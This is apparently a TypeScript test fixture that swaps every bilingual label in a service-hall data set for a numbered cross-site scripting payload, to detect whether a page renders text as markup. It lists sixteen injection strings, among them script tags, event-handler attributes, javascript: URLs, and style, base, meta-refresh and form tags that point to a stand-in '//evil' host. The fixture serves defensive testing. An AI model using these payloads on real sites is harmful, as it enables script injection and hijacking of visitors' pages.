/**
 * A hall whose every text tries to be a script: what a page does with a text that it takes for markup.
 * Each says its number when it succeeds, so that the one that did is known. Rules: WEB-2. Source: SEC-06.
 */
import { manyServices } from './public-halls.ts';

/** Longer ones than a label may be are cut to what still runs. Units: characters. */
const MARKUP: readonly ((n: number) => string)[] = [
  (n) => `<img src=x onerror=ran=${n}>`,
  (n) => `<svg onload=ran=${n}>`,
  (n) => `<script>ran=${n}</script>`,
  (n) => `"><b onfocus=ran=${n} tabindex=0 autofocus>`,
  (n) => `'><i style=animation:x onanimationstart=ran=${n}>`,
  (n) => `<a href=javascript:ran=${n}>a</a>`,
  (n) => `<iframe srcdoc="<script>parent.ran=${n}</script>">`,
  (n) => `</title><img src=x onerror=ran=${n}>`,
  (n) => `</script><script>ran=${n}</script>`,
  (n) => `javascript:ran=${n}`,
  (n) => `\${ran=${n}}{{ran=${n}}}#{ran=${n}}`,
  (n) => `<style>@import'//evil/${n}'</style>a`,
  (n) => `<base href=//evil/${n}>a`,
  (n) => `<meta http-equiv=refresh content=0;url=//evil/${n}>`,
  (n) => `&lt;img src=x onerror=ran=${n}&gt;`,
  (n) => `<form action=//evil><input autofocus onfocus=ran=${n}>`,
];
/** Short enough for the narrowest texts. */
const SHORT = (n: number): string => `<b onclick=ran=${n}>a`;
/** Of a table's title. Units: characters. */
const NARROWEST = 24;

type Poisoned = { readonly hall: unknown; readonly payloads: readonly string[] };

const isText = (value: object): boolean => 'zh-CN' in value && 'en' in value;

/** Puts a payload of its own in place of every text. */
export const poisoned = (hall: unknown): Poisoned => {
  const payloads: string[] = [];
  const next = (instead: string): string => {
    const n = payloads.length + 1;
    const long = MARKUP[n % MARKUP.length]?.(n) ?? SHORT(n);
    const payload = instead.length < 8 && long.length > NARROWEST ? SHORT(n) : long;
    payloads.push(payload);
    return payload;
  };
  const walk = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(walk);
    if (typeof value !== 'object' || value === null) return value;
    if (isText(value)) {
      return Object.fromEntries(Object.entries(value).map(([key, text]) => [key, next(text)]));
    }
    return Object.fromEntries(Object.entries(value).map(([key, part]) => [key, walk(part)]));
  };
  return { hall: walk(hall), payloads };
};

const eight = Array.from({ length: 8 }, (_, n) => ({
  'zh-CN': `证件${n}号文件`,
  en: `paper ${n} of it`,
}));

/** Twelve services that each ask for eight papers, in groups, with notices. */
export const hostileHall = (hall: string): Poisoned => {
  const plain = manyServices(hall, true);
  return poisoned({
    ...plain,
    services: plain.services.map((service) => ({ ...service, documents: eight })),
  });
};
